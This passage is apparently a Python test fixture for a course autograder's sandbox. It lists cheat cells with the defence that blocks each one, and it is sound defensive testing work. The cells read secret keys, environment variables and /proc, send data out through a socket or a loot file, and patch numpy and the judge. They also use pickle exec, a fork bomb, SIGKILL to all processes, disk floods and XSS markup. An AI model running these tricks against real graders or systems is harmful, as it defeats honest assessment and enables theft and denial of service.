"""Task cells that cheat: what each does, what stops it, and the naive judge that it beats when nothing does.

`@ROOT@`, `@COURSE@`, `@LOOT@`, `@PORT@` and `@VICTIM@` stand for what a cheat could learn of: the repository, the course
directory, a file that an attack writes to show that it got out, a listening port, and a process of somebody else's.
"""

# ruff: noqa: E501 - cells are quoted as one piece

from dataclasses import dataclass, field

ZEROS = "np.zeros((len(x), w.shape[1])), (x, w)"


@dataclass(frozen=True)
class Attack:
    """One cheat: the cells that it fills in, the points that its honest content deserves, the defence that stops it.

    ``beats`` names the judge of `naive_judges.py` that lets it through; "" where the defence is shown otherwise.
    ``status`` is what the attacked task ends as; None where several are right.
    """

    name: str
    cells: dict
    stops: str
    beats: str = ""
    deserves: float = 0.0
    status: str | None = None


def forward(body, before=""):
    """A cell of `affine_forward` that does something and then answers zeros."""
    lines = "\n".join(f"    {line}" for line in body.strip().split("\n"))
    return f"{before}\ndef affine_forward(x, w, b):\n{lines}\n    return {ZEROS}\n"


def attempt(body):
    """A cell that tries something which may be refused, then answers zeros."""
    lines = "\n".join(f"    {line}" for line in body.strip().split("\n"))
    return forward(f"try:\n{lines}\nexcept Exception:\n    pass")


def steal(expression):
    """A cell that writes what it read to a file outside."""
    return attempt(f"found = {expression}\nopen('@LOOT@', 'a').write(str(found))")


def copied(path):
    """A cell that takes the function out of a file of somebody else's."""
    return f"""
import json, re
def affine_forward(x, w, b):
    try:
        text = open({path!r}).read()
        if {path!r}.endswith(".ipynb"):
            text = chr(10).join("".join(cell["source"]) for cell in json.loads(text)["cells"])
        source = re.search(r"def affine_forward.*?\\n    return [^\\n]*", text, re.S)[0]
        scope = {{"np": np}}
        exec(source, scope)
        return scope["affine_forward"](x, w, b)
    except Exception:
        return {ZEROS}
"""


def forged(body):
    """A cell that rewrites the answer on its way out: ``body`` sees ``tree``, ``x`` and ``plain``, the true encoder."""
    lines = "\n".join(f"        {line}" for line in body.strip().split("\n"))
    return f"""
import json, os, struct
def affine_forward(x, w, b):
    import sys
    running = sys.modules["numnet.check.running"]
    plain = running.encode
    told = repr(float(x.flat[0]))
    def message(header, blob=b""):
        text = header if isinstance(header, bytes) else json.dumps(header).encode()
        return b"NNW1" + struct.pack("<Q", len(text)) + text + blob
    def raised(**fields):
        return {{"type": "ValueError", "where": "cell", "cell": "affine_forward", "line": 3, "name": None, "text": ""}} | fields
    def encode(tree):
        cases = tree["affine_forward"]
{lines}
        return plain(tree)
    running.encode = encode
    return {ZEROS}
"""


def every_case(**fields):
    """The body of `forged` that changes fields of all replies; values are expressions."""
    return "for reply in cases.values():\n    reply.update(" + ", ".join(f"{k}={v}" for k, v in fields.items()) + ")"


CHANNELS = """
import os, stat, struct, time
def channels():
    found = []
    for number in range(3, 32):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode):
                found.append(number)
        except OSError:
            pass
    return found
def everywhere(data):
    for number in channels():
        try:
            os.write(number, data)
        except OSError:
            pass
"""

READING = [
    Attack(
        "the reference in numnet",
        {
            "affine_forward": f"""
import numnet.layers
known = numnet.layers.affine_forward
def affine_forward(x, w, b):
    try:
        return known(x, w, b)
    except NotImplementedError:
        return {ZEROS}
"""
        },
        "the worker's numnet is stripped",
        "allclose",
    ),
    Attack("the reference's source", {"affine_forward": copied("@ROOT@/numnet/layers.py")}, "mounts", "allclose"),
    Attack("the solution notebook", {"affine_forward": copied("@COURSE@/solutions.py")}, "mounts", "allclose"),
    Attack(
        "another submission",
        {"affine_forward": copied("@COURSE@/submitted/neighbour/a02_backpropagation/a02_backpropagation.ipynb")},
        "mounts",
        "allclose",
    ),
    Attack("the secret", {"affine_forward": steal("open('@COURSE@/secret.key').read()")}, "mounts", "loot"),
    Attack(
        "the expected values on disk",
        {
            "affine_forward": steal(
                "[open(p, 'rb').read(40) for p in __import__('glob').glob('@COURSE@/results/expected/*')]"
            )
        },
        "mounts",
        "loot",
    ),
    Attack(
        "the checks",
        {"affine_forward": steal("open('@ROOT@/autograder/checks/affine_forward.py').read()")},
        "mounts",
        "loot",
    ),
    Attack(
        "the environment",
        {"affine_forward": steal("__import__('os').environ['NUMNET_TEST_SECRET']")},
        "cleared environment",
        "loot",
    ),
    Attack(
        "/proc of the grader",
        {
            "affine_forward": steal(
                "open(f\"/proc/{__import__('os').getppid()}/cmdline\").read() + open('/proc/self/environ').read()"
            )
        },
        "no /proc",
        "loot",
    ),
    Attack(
        "the gradebook",
        {
            "affine_forward": attempt("""
import sqlite3
with sqlite3.connect('@COURSE@/gradebook.db') as book:
    book.execute('create table if not exists owned (x)')
open('@LOOT@', 'a').write('owned')""")
        },
        "mounts",
        "loot",
    ),
    Attack(
        "a daemon that edits grades later",
        {
            "affine_forward": attempt("""
import os
if os.fork() == 0:
    os.setsid()
    open('@LOOT@', 'a').write('later')
    os._exit(0)
os.wait()""")
        },
        "no new process, process group of its own",
        "loot",
    ),
    Attack(
        "frames above",
        {
            "affine_forward": f"""
import sys
def affine_forward(x, w, b):
    frame = sys._getframe()
    while frame:
        for name in ("expected", "want"):
            if name in frame.f_locals:
                return frame.f_locals[name], (x, w)
        frame = frame.f_back
    return {ZEROS}
"""
        },
        "the judge runs elsewhere",
        "testing",
    ),
    Attack(
        "everything in memory",
        {
            "affine_forward": f"""
import gc
def affine_forward(x, w, b):
    for found in gc.get_objects():
        if isinstance(found, dict) and "expected" in found and isinstance(found["expected"], np.ndarray):
            return found["expected"], (x, w)
    return {ZEROS}
"""
        },
        "the judge runs elsewhere",
        "testing",
    ),
    Attack(
        "another library",
        {
            "affine_forward": f"""
import scipy.linalg.blas as blas
def affine_forward(x, w, b):
    try:
        return blas.dgemm(1.0, x, w) + b, (x, w)
    except ImportError:
        return {ZEROS}
"""
        },
        "the worker has numpy alone",
        "allclose",
    ),
    Attack(
        "a task's answer out of the course's code",
        {
            "affine_forward": "def affine_forward(x, w, b):\n    return np.known(x, w, b)\n",
            "affine_backward": """
import numnet
def affine_backward(dout, cache):
    np.known = numnet.layers.affine_forward
    return 0, 0, 0
""",
        },
        "a sandbox for each task and run",
        beats="one_process",
    ),
]

NETWORK = [
    Attack(
        "a connection",
        {
            "affine_forward": attempt("""
import socket
socket.create_connection(("127.0.0.1", @PORT@), timeout=1).send(repr(x).encode())
open('@LOOT@', 'a').write('sent')""")
        },
        "no network",
        "loot",
    ),
    Attack(
        "a datagram by raw system call",
        {
            "affine_forward": attempt("""
import ctypes, os
libc = ctypes.CDLL(None)
if libc.socket(2, 2, 0) >= 0:
    open('@LOOT@', 'a').write('socket')""")
        },
        "no network",
        "loot",
    ),
    Attack(
        "a name look-up",
        {
            "affine_forward": attempt("""
import socket
socket.getaddrinfo("localhost", 80)
open('@LOOT@', 'a').write('resolved')""")
        },
        "no network",
        "loot",
    ),
    Attack(
        "a program",
        {
            "affine_forward": attempt("""
import subprocess
subprocess.run(["touch", "@LOOT@"], check=True)""")
        },
        "no program to run",
        "loot",
    ),
]

PATCHING = [
    Attack(
        "numpy's allclose",
        {"affine_forward": forward("np.allclose = np.isclose = np.array_equal = lambda *a, **k: True")},
        "the judge runs elsewhere",
        "allclose",
    ),
    Attack(
        "numpy.testing",
        {"affine_forward": forward("np.testing.assert_allclose = lambda *a, **k: None")},
        "the judge runs elsewhere",
        "testing",
    ),
    Attack(
        "builtins",
        {
            "affine_forward": forward(
                "import builtins\nbuiltins.all = builtins.any = lambda *a: True\nbuiltins.abs = lambda a: 0"
            )
        },
        "the judge runs elsewhere",
        "builtin",
    ),
    Attack(
        "sys.modules",
        {
            "affine_forward": forward("""
import sys, types
fake = types.SimpleNamespace(close=lambda *a: True)
sys.modules["judge_tools"] = fake""")
        },
        "the judge runs elsewhere",
        "import",
    ),
    Attack(
        "an import hook",
        {
            "affine_forward": forward("""
import sys, types, importlib.machinery
class Hook:
    def find_spec(self, name, path=None, target=None):
        if name == "judge_tools":
            return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.close = lambda *a: True
sys.meta_path.insert(0, Hook())""")
        },
        "the judge runs elsewhere",
        "import",
    ),
    Attack(
        "builtins.__import__",
        {
            "affine_forward": forward("""
import builtins, types
plain = builtins.__import__
def hooked(name, *rest, **more):
    return types.SimpleNamespace(close=lambda *a: True) if name == "judge_tools" else plain(name, *rest, **more)
builtins.__import__ = hooked""")
        },
        "the judge runs elsewhere",
        "import",
    ),
    Attack(
        "an audit hook",
        {
            "affine_forward": forward("""
import os, sys
sys.addaudithook(lambda event, args: os._exit(0) if event == "import" and args[0] == "judge_tools" else None)""")
        },
        "the judge runs elsewhere",
        "exit",
    ),
    Attack(
        "the judge",
        {
            "affine_forward": attempt("""
import sys
judging = sys.modules["numnet.check.judging"]
judging.ArrayJudge.problem = lambda *a: None""")
        },
        "the worker has no judge",
        "pipeline",
    ),
    Attack(
        "numnet's comparison",
        {
            "affine_forward": attempt("""
import sys
judging = sys.modules["numnet.check.judging"]
judging.compare_values = judging.compare_refusals = lambda *a: None
judging.ArrayJudge._problems = lambda *a: {}""")
        },
        "the worker has no judge",
        "pipeline",
    ),
    Attack(
        "the probe",
        {
            "affine_forward": f"""
import gc, sys
class Patch:
    running = sys.modules["numnet.check.running"]
    plain = running.run_probe
    def stolen(source, inputs, plain=plain):
        for found in gc.get_objects():
            if type(found).__name__ == "Expectation":
                for case, values in found.job.cases.items():
                    if values is inputs:
                        return found.want[case]
        return plain(source, inputs)
    running.run_probe = stolen
def affine_forward(x, w, b):
    return {ZEROS}
"""
        },
        "the judge runs elsewhere",
        "pipeline",
    ),
    Attack(
        "the probe, to answer by itself",
        {
            "affine_forward": attempt("""
import sys
running = sys.modules["numnet.check.running"]
for name in ("run_probe", "_compiled"):
    setattr(running, name, lambda *a: running.Reply({"out": 0.0, "shape errors": {"out": 0.0, "refused": ["w", "b"]}}))""")
        },
        "replies are only data",
    ),
    Attack(
        "the inputs, one array for all",
        {
            "affine_forward": attempt("""
import sys
running = sys.modules["numnet.check.running"]
running._fresh = lambda tree: np.zeros((1, 1)) if isinstance(tree, np.ndarray) else tree""")
        },
        "the judge has its own inputs",
    ),
    Attack(
        "a displayed number",
        {"affine_forward": forward("import sys\nsys.displayhook(2.0)")},
        "no output counts",
        "display",
    ),
    Attack(
        "a tracer in the probe's frame",
        {
            "affine_forward": forward("""
import sys
def trace(frame, event, argument):
    if "expected" in frame.f_locals and "out" in frame.f_locals:
        frame.f_locals["expected"] = frame.f_locals["out"]
    return trace
sys.settrace(trace)
sys._getframe(1).f_trace = trace""")
        },
        "the judge runs elsewhere",
        beats="testing",
    ),
]

LIAR = """
class Liar(np.ndarray):
    def __array_function__(self, function, types, args, kwargs):
        return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.ones(2, dtype=bool)
    __eq__ = __ne__ = __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: np.ones(2, dtype=bool)
    all = any = lambda self, *a, **k: True
"""


def answering(expression, before=""):
    """A cell whose answer is one expression."""
    return f"{before}\ndef affine_forward(x, w, b):\n    right = np.zeros((len(x), w.shape[1]))\n    return {expression}, (x, w)\n"


LYING = [
    Attack(
        "a lying subclass of arrays",
        {"affine_forward": answering("right.view(Liar)", LIAR)},
        "only raw numbers travel",
        "allclose",
        status="wrong",
    ),
    Attack(
        "__eq__",
        {
            "affine_forward": answering(
                "Equal()",
                "class Equal:\n    shape = (1,)\n    def __eq__(self, other):\n        return self\n    def all(self):\n        return True\n",
            )
        },
        "only raw numbers travel",
        "equal",
    ),
    Attack(
        "__array__",
        {
            "affine_forward": answering(
                "Chameleon()",
                """
import sys
class Chameleon:
    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe()
        while frame:
            if "expected" in frame.f_locals:
                return np.array(frame.f_locals["expected"])
            frame = frame.f_back
        return np.zeros(1)
""",
            )
        },
        "only raw numbers travel",
        "testing",
    ),
    Attack(
        "__len__ and __getitem__",
        {
            "affine_forward": answering(
                "Endless()",
                """
class Endless(list):
    def __len__(self):
        return 10**9
    def __iter__(self):
        return iter(lambda: 0, 1)
""",
            )
        },
        "only exact lists travel",
    ),
    Attack(
        "a list that holds itself",
        {"affine_forward": "def affine_forward(x, w, b):\n    knot = []\n    knot.append(knot)\n    return knot, None"},
        "depth",
    ),
    Attack(
        "a memory map of what is expected",
        {"affine_forward": answering("np.memmap('@COURSE@/expected.bin', mode='r', dtype=float, shape=right.shape)")},
        "only raw numbers travel",
        beats="allclose",
    ),
    Attack(
        "objects in an array",
        {
            "affine_forward": answering(
                "np.array([[Any()] * right.shape[1]] * len(x), dtype=object)",
                "class Any:\n    __eq__ = __le__ = __lt__ = lambda self, other: True\n    __sub__ = __rsub__ = __abs__ = lambda self, other=0: self\n",
            )
        },
        "dtype kinds",
        "equal",
    ),
    Attack("a 0-d array", {"affine_forward": answering("np.array(np.nan)")}, "shapes", beats="larger"),
    Attack(
        "an array of no entries that fits every shape",
        {"affine_forward": answering("np.zeros((0, 1, 1))")},
        "shapes",
        "allclose",
    ),
    Attack(
        "__len__ of a list that holds nothing",
        {
            "affine_forward": answering(
                "Empty(x)",
                "class Empty(list):\n    def __iter__(self):\n        return iter(())\n",
            )
        },
        "only exact lists travel",
        "loop",
    ),
    Attack(
        "strides that repeat one number",
        {"affine_forward": answering("np.lib.stride_tricks.as_strided(np.zeros(1), (10**6, 10**6), (0, 0))")},
        "memory limit and size of the reply",
    ),
    Attack(
        "nan with a payload",
        {
            "affine_forward": answering(
                "np.frombuffer(b'\\x01\\0\\0\\0\\0\\0\\xf8\\x7f' * right.size).reshape(right.shape)"
            )
        },
        "finite",
        beats="larger",
    ),
    Attack(
        "nan in place of shapes",
        {"affine_forward": answering("np.full(right.shape, np.nan) * right.view(Liar)", LIAR)},
        "finite",
    ),
    Attack(
        "a masked array",
        {"affine_forward": answering("np.ma.masked_all(right.shape)")},
        "only raw numbers travel",
        "testing",
    ),
    Attack(
        "a structured array",
        {"affine_forward": answering("np.zeros(right.shape, dtype=[('a', float)])")},
        "dtype kinds",
    ),
    Attack("an input returned", {"affine_forward": "def affine_forward(x, w, b):\n    return x, (x, w)"}, "values"),
    Attack(
        "inputs changed to fit",
        {
            "affine_forward": "def affine_forward(x, w, b):\n    x[...] = 0\n    w[...] = 0\n    b[...] = 0\n    return np.zeros((len(x), w.shape[1])), (x, w)"
        },
        "copies",
        "testing",
    ),
]

PROTOCOL = [
    Attack(
        "a forged type of exception",
        {"affine_forward": forged(every_case(raised="raised(type=told)"))},
        "known names only",
    ),
    Attack(
        "a forged place",
        {"affine_forward": forged(every_case(raised="raised(where='stub', cell=told)"))},
        "known names only",
    ),
    Attack("a forged cell", {"affine_forward": forged(every_case(raised="raised(cell=told)"))}, "known names only"),
    Attack(
        "a forged missing name",
        {"affine_forward": forged(every_case(raised="raised(type='NameError', name=told)"))},
        "names of the cell only",
    ),
    Attack(
        "forged type names",
        {"affine_forward": forged(every_case(value="{'out': None}", types="{'out': told}"))},
        "known names only",
    ),
    Attack(
        "forged names of parts",
        {"affine_forward": forged(every_case(value="{told: 1.0, 'out': [told]}", after="{told: 1.0}", printed="told"))},
        "parts are ours",
    ),
    Attack(
        "half a character",
        {"affine_forward": forged(every_case(raised=r"raised(type='\ud800', where='\ud800')"))},
        "known names only",
    ),
    Attack(
        "a number of 4000 digits",
        {"affine_forward": forged(every_case(value="{'out': 10**4000, 'shape errors': 10**4000}"))},
        "64 bits",
    ),
    Attack(
        "a generator in place of a number",
        {
            "affine_forward": forged(
                every_case(value="None")
                + "\ndata = plain(tree)\nstart = 12\nlength = struct.unpack('<Q', data[4:12])[0]\n"
                'text = data[12:12 + length].replace(b\'"value": null\', b\'"value": {"d": {"out": {"s": 7}}}\')\nreturn message(text, data[12 + length:])'
            )
        },
        "no generator in an answer",
    ),
    Attack(
        "arrays of the same bytes",
        {
            "affine_forward": forged(
                "blob = bytes(10_000_000)\nreturn message([{'a': ['<f8', [1_250_000], 0]}] * 5_000, blob)"
            )
        },
        "unpacked size",
    ),
    Attack(
        "millions of empty lists",
        {"affine_forward": forged("return message(b'[' + b'[],' * 15_000_000 + b'1]')")},
        "number of values",
    ),
    Attack(
        "deep nesting",
        {"affine_forward": forged("return message(b'[' * 100_000 + b']' * 100_000)")},
        "depth",
        beats="reader",
    ),
    Attack(
        "an enormous empty shape",
        {"affine_forward": forged("for reply in cases.values():\n    reply['value'] = {'out': np.zeros((0, 2**40))}")},
        "shapes",
    ),
    Attack(
        "negative sizes",
        {
            "affine_forward": forged(
                "return message({'d': {'affine_forward': {'a': ['<f8', [-1, 8], -64]}}}, bytes(64))"
            )
        },
        "counts only",
    ),
    Attack(
        "a dtype with objects",
        {"affine_forward": forged("return message({'d': {'affine_forward': {'a': ['O', [8], 0]}}}, bytes(64))")},
        "dtype kinds",
    ),
    Attack(
        "pickled bytes",
        {
            "affine_forward": forged(
                "import pickle\nclass Loot:\n    def __reduce__(self):\n        return exec, (\"open('@LOOT@', 'w').close()\",)\nreturn pickle.dumps(Loot())"
            )
        },
        "no pickle",
        beats="unpickled",
    ),
    Attack(
        "a dtype that no parser likes",
        {"affine_forward": forged("return message({'d': {'affine_forward': {'a': ['f8, (', [8], 0]}}}, bytes(64))")},
        "known dtypes only",
        beats="reader",
    ),
    Attack(
        "an array in place of a number that was changed",
        {
            "leaky_relu_forward": forged(
                every_case(value="{'out': 1.0, 'out for alpha above 1': 1.0}", after="{'alpha': np.zeros(0)}")
            )
            .replace("affine_forward", "leaky_relu_forward")
            .replace("(x, w, b)", "(x, *rest)")
            .replace(ZEROS, "x * 0, x")
        },
        "changed inputs are compared by type first",
    ),
    Attack("cases left out", {"affine_forward": forged("cases.clear()")}, "every case is asked for", beats="reader"),
    Attack(
        "replies for other tasks",
        {
            "affine_forward": forged(
                "import copy\nfor other in ('affine_backward', 'softmax_loss', 'Value', '__class__'):\n    tree[other] = copy.deepcopy(cases)"
            )
        },
        "only what was asked is read",
    ),
    Attack(
        "a second reply",
        {
            "affine_forward": CHANNELS
            + "def affine_forward(x, w, b):\n    everywhere(struct.pack('<Q', 3) + b'abc')\n    return 0, 0"
        },
        "one reply",
        beats="reader",
    ),
    Attack(
        "a giant reply",
        {
            "affine_forward": CHANNELS
            + "def affine_forward(x, w, b):\n    everywhere(struct.pack('<Q', 2**60))\n    return 0, 0"
        },
        "length",
        beats="reader",
    ),
    Attack(
        "half a reply",
        {
            "affine_forward": CHANNELS
            + "def affine_forward(x, w, b):\n    everywhere(struct.pack('<Q', 100) + b'abc')\n    os._exit(0)"
        },
        "length",
        beats="reader",
    ),
    Attack(
        "a slow reply",
        {
            "affine_forward": CHANNELS
            + "def affine_forward(x, w, b):\n    everywhere(struct.pack('<Q', 100))\n    while True:\n        everywhere(b'a')\n        time.sleep(0.1)"
        },
        "wall time",
        beats="reader",
    ),
    Attack(
        "closed descriptors",
        {"affine_forward": "import os\ndef affine_forward(x, w, b):\n    os.closerange(0, 100)\n    return 0, 0"},
        "the process ends",
        beats="reader",
    ),
]

ENDLESS = [
    Attack(
        "a fork bomb",
        {
            "affine_forward": forward(
                "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
            )
        },
        "no new process, CPU limit",
        status="failed",
    ),
    Attack(
        "threads that never end",
        {
            "affine_forward": forward(
                "import threading\ndef spin():\n    while True:\n        pass\nfor _ in range(8):\n    threading.Thread(target=spin).start()\nthreading.Event().wait()"
            )
        },
        "CPU limit",
        status="failed",
        beats="stuck",
    ),
    Attack(
        "memory", {"affine_forward": forward("kept = []\nwhile True:\n    kept.append(np.ones(10**7))")}, "memory limit"
    ),
    Attack(
        "a full disk",
        {
            "affine_forward": attempt(
                "with open('/tmp/full', 'wb') as file:\n    while True:\n        file.write(bytes(10**6))"
            )
        },
        "size of /tmp",
    ),
    Attack(
        "a million files",
        {
            "affine_forward": attempt(
                "number = 0\nwhile True:\n    number += 1\n    open(f'/tmp/{number}', 'w').close()"
            )
        },
        "files in /tmp",
    ),
    Attack(
        "a flood of output",
        {"affine_forward": forward("import os\nwhile True:\n    print('x' * 10**5)\n    os.write(2, b'x' * 10**5)")},
        "printed text is capped, CPU limit",
        status="failed",
        beats="stuck",
    ),
    Attack(
        "signals to everybody",
        {
            "affine_forward": attempt(
                "import os, signal\nfor pid in (-1, os.getppid(), 0):\n    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass"
            )
        },
        "namespace of processes",
        status="failed",
    ),
    Attack(
        "a signal to a process known by number",
        {"affine_forward": attempt("import os, signal\nos.kill(@VICTIM@, signal.SIGKILL)")},
        "namespace of processes",
        "victim",
    ),
    Attack(
        "os._exit",
        {"affine_forward": forward("import os\nos._exit(0)")},
        "no answer, no points",
        "exit",
        status="failed",
    ),
    Attack(
        "SystemExit",
        {"affine_forward": forward("import sys\nsys.exit(0)")},
        "an exception like others",
        "exit",
        status="failed",
    ),
    Attack(
        "a hang on import",
        {"affine_forward": "class Hang:\n    while True:\n        pass\ndef affine_forward(x, w, b):\n    return 0"},
        "CPU limit",
        status="failed",
        beats="stuck",
    ),
    Attack(
        "a loop that cannot be interrupted",
        {
            "affine_forward": forward(
                "import signal\nfor number in range(1, 32):\n    if number not in (9, 19):\n        signal.signal(number, signal.SIG_IGN)\n3 ** 10 ** 8"
            )
        },
        "CPU limit",
        status="failed",
        beats="stuck",
    ),
    Attack(
        "a sleep",
        {"affine_forward": forward("import time\nwhile True:\n    time.sleep(1)")},
        "wall time",
        status="failed",
        beats="stuck",
    ),
    Attack(
        "a stopped process",
        {"affine_forward": forward("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")},
        "wall time",
        status="failed",
        beats="stuck",
    ),
    Attack(
        "a crash in C",
        {"affine_forward": forward("import ctypes\nctypes.string_at(0)")},
        "the process ends",
        status="failed",
        beats="dies",
    ),
    Attack(
        "endless recursion",
        {
            "affine_forward": forward(
                "import sys\nsys.setrecursionlimit(10**9)\ndef down(n):\n    return [down(n + 1)]\ndown(0)"
            )
        },
        "the process ends",
    ),
    Attack(
        "an endless object",
        {
            "affine_forward": answering(
                "Slow()",
                "class Slow(float):\n    def __float__(self):\n        while True:\n            pass\n    __abs__ = __mul__ = __float__\n",
            )
        },
        "only exact types travel",
    ),
    Attack(
        "exit handlers and threads left behind",
        {
            "affine_forward": forward(
                "import atexit, threading, time\natexit.register(time.sleep, 1000)\nthreading.Thread(target=time.sleep, args=(1000,)).start()"
            )
        },
        "the process ends with its answer",
    ),
]

SPELLING = [
    Attack(
        "an exception's text",
        {"affine_forward": "def affine_forward(x, w, b):\n    raise ValueError(repr(x.tolist()))"},
        "no text of a call's",
        status="failed",
        beats="shown",
    ),
    Attack(
        "an exception's class name",
        {"affine_forward": "def affine_forward(x, w, b):\n    raise type(repr(float(x.flat[0])), (ValueError,), {})"},
        "built-in names only",
        status="failed",
        beats="shown",
    ),
    Attack(
        "a class said to be built in",
        {
            "affine_forward": "def affine_forward(x, w, b):\n    raise type(repr(float(x.flat[0])), (ValueError,), {'__module__': 'builtins'})"
        },
        "known names only",
        status="failed",
        beats="shown",
    ),
    Attack(
        "a file name in a traceback",
        {
            "affine_forward": "def affine_forward(x, w, b):\n    exec(compile('raise ValueError', f'<task {float(x.flat[0])!r}>', 'exec'))"
        },
        "known names only",
        status="failed",
        beats="shown",
    ),
    Attack(
        "a shape",
        {"affine_forward": "def affine_forward(x, w, b):\n    return np.zeros((int(abs(x.flat[0]) * 1e6), 0)), 0"},
        "only the inputs' sizes are repeated",
        beats="shown",
    ),
    Attack(
        "a line number",
        {
            "affine_forward": "def affine_forward(x, w, b):\n    n = int(abs(x.flat[0]) * 1e4) % 5000\n    exec(compile('\\n' * (n + 4) + 'raise ValueError', '<task affine_forward>', 'exec'))\n"
            + "\n".join(f"# {n / 1e4:.5f}" for n in range(5000))
        },
        "long cells are not quoted",
    ),
    Attack(
        "a missing name",
        {
            "affine_forward": "def affine_forward(x, w, b):\n    raise NameError('', name=f'v{int(abs(x.flat[0]) * 1e4) % 5000:05d}')\n"
            + "\n".join(f"# v{n:05d}" for n in range(5000))
        },
        "cells of many names are not quoted",
    ),
    Attack(
        "an exit code",
        {
            "affine_forward": "import os\ndef affine_forward(x, w, b):\n    os._exit(int(abs(x.flat[0]) * 1e5) % 200 + 3)"
        },
        "ends are told alike",
        status="failed",
    ),
    Attack(
        "printed text",
        {"affine_forward": "def affine_forward(x, w, b):\n    print(x)\n    return print(w), b"},
        "no text of a call's",
        beats="shown",
    ),
    Attack(
        "commands to a terminal",
        {
            "affine_forward": "def affine_forward(x, w, b):\n    print(chr(27) + ']0;x')\n    if len(x) == 1:\n        return {chr(27) + '[2J' + chr(10) + '  expected': 1}, 0\n    raise ValueError(chr(27) + '[2J' + chr(10) + '  expected 1')"
        },
        "explain prints no control characters",
    ),
    Attack(
        "markup in a line",
        {
            "affine_forward": "def affine_forward(x, w, b):\n    raise ValueError  # <script>alert(1)</script> </pre>`</code>`<img src=x onerror=alert(1)>"
        },
        "pages escape",
        status="failed",
    ),
]

NOTEBOOK = [
    Attack("a shell escape", {"affine_forward": f"!touch @LOOT@\n{forward('pass')}"}, "magics are left out", "kernel"),
    Attack(
        "a cell magic",
        {"affine_forward": f"%%python\nopen('@LOOT@', 'w').close()\n{forward('np = None')}"},
        "magics are left out, mounts",
        "kernel",
    ),
    Attack(
        "trial code",
        {"affine_forward": f"open('@LOOT@', 'w').close()\n{forward('pass')}"},
        "trial code is left out",
        "loot",
    ),
    Attack(
        "a number that runs",
        {"mlp_db1": "mlp_db1 = __import__('os').system('touch @LOOT@')"},
        "numbers are read, never run",
        "kernel",
    ),
]

# Tasks that take and give dicts and objects.
NESTED = [
    Attack(
        "a dict whose keys are there when they are counted",
        {
            "two_layer_net": """
class Grads(dict):
    asked = 0
    def __iter__(self):
        Grads.asked += 1
        return iter(("w1", "b1", "w2", "b2") if Grads.asked % 2 else ())
def two_layer_net(params, x, y=None, reg=0.0):
    for value in params.values():
        value[...] = 0
    c = params["w2"].shape[1]
    return np.zeros((len(x), c)) if y is None else (np.log(c), Grads(w1=0, b1=0, w2=0, b2=0))
"""
        },
        "the probe's own dict travels, and the judge names the keys",
        "net",
    ),
    Attack(
        "a params dict emptied in place",
        {
            "two_layer_net": """
def two_layer_net(params, x, y=None, reg=0.0):
    for value in params.values():
        value[...] = 0
    x[...] = 0
    c = params["w2"].shape[1]
    scores = np.zeros((len(x), c))
    if y is None:
        return scores
    db2 = np.bincount(y, minlength=c) * -1.0 / len(y) + 1 / c
    return np.log(c), {name: np.zeros_like(value) for name, value in params.items()} | {"b2": db2}
"""
        },
        "copies, and the expectation is computed elsewhere",
        "net",
    ),
    Attack(
        "a params dict of a class of its own",
        {
            "two_layer_net": """
class Params(dict):
    __eq__ = __ne__ = lambda self, other: True
    def keys(self):
        return dict(w1=0, b1=0, w2=0, b2=0).keys()
    def __getitem__(self, name):
        return Any()
class Any(float):
    __sub__ = __rsub__ = __abs__ = lambda self, other=0: Any()
    __lt__ = __le__ = __gt__ = __ge__ = __eq__ = lambda self, other: True
    __hash__ = None
def two_layer_net(params, x, y=None, reg=0.0):
    return Any() if y is None else (Any(), Params(w1=0, b1=0, w2=0, b2=0))
"""
        },
        "only exact types travel",
    ),
    Attack(
        "hidden values as keys",
        {
            "two_layer_net": """
def two_layer_net(params, x, y=None, reg=0.0):
    if y is None:
        return {repr(float(x.flat[0])): x}
    return {repr(float(x.flat[0])): 0}, {"w1": x, repr(float(x.flat[0])): x, "w/" + repr(float(x.flat[1])): 0}
"""
        },
        "keys of the answer are never repeated",
    ),
    Attack(
        "labels that equal all labels",
        {
            "train_classifier": """
class Labels(np.ndarray):
    def __eq__(self, other):
        return np.ones(len(self), dtype=bool)
def train_classifier(x_train, y_train, x_test, rng):
    return np.zeros(len(x_test), dtype=int).view(Labels)
"""
        },
        "only raw numbers travel",
        "accuracy",
    ),
    Attack(
        "a node that is near every number",
        {
            "Value": """
class Near(float):
    __sub__ = __rsub__ = __abs__ = lambda self, other=0: Near()
    __lt__ = __le__ = lambda self, other: True
class Value:
    def __init__(self, data):
        self.data, self.grad = Near(), Near()
    def __add__(self, other):
        return self
    __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __pow__ = __add__
    maximum = __add__
    def exp(self):
        return self
    log = tanh = relu = __neg__ = backward = exp
"""
        },
        "only exact types travel",
        "number",
    ),
]

FAMILIES = {
    "notebook": NOTEBOOK,
    "nested": NESTED,
    "reading": READING,
    "network": NETWORK,
    "patching": PATCHING,
    "lying": LYING,
    "protocol": PROTOCOL,
    "endless": ENDLESS,
    "spelling": SPELLING,
}
ATTACKS = [attack for family in FAMILIES.values() for attack in family]


@dataclass(frozen=True)
class Flood:
    """A flood that ends and then answers rightly: ``strict`` limits stop it, ``loose`` ones let it through.

    What ``strict`` names is as strict or looser than in grading, or, for time, smaller, so that the test is short.
    """

    body: str
    loose: dict
    strict: dict = field(default_factory=dict)
    filtered: bool = True


FLOODS = {
    "memory": Flood("    kept = np.empty(150_000_000)", {"memory_bytes": 3_000_000_000}),
    "disk": Flood(
        "    for n in range(3):\n        open(f'/tmp/{n}', 'wb').write(bytes(7_000_000))", {"tmp_bytes": 64_000_000}
    ),
    "one file": Flood("    open('/tmp/one', 'wb').write(bytes(10_000_000))", {"file_bytes": 12_000_000}),
    "files": Flood("    for n in range(1200):\n        open(f'/tmp/{n}', 'w').close()", {"tmp_files": 5_000}),
    "descriptors": Flood("    kept = [open('/dev/null') for _ in range(40)]", {"open_files": 128}),
    "threads": Flood(
        """
    import threading
    end, started = threading.Event(), []
    try:
        for _ in range(24):
            thread = threading.Thread(target=end.wait)
            thread.start()
            started.append(thread)
    finally:
        end.set()
        for thread in started:
            thread.join()""",
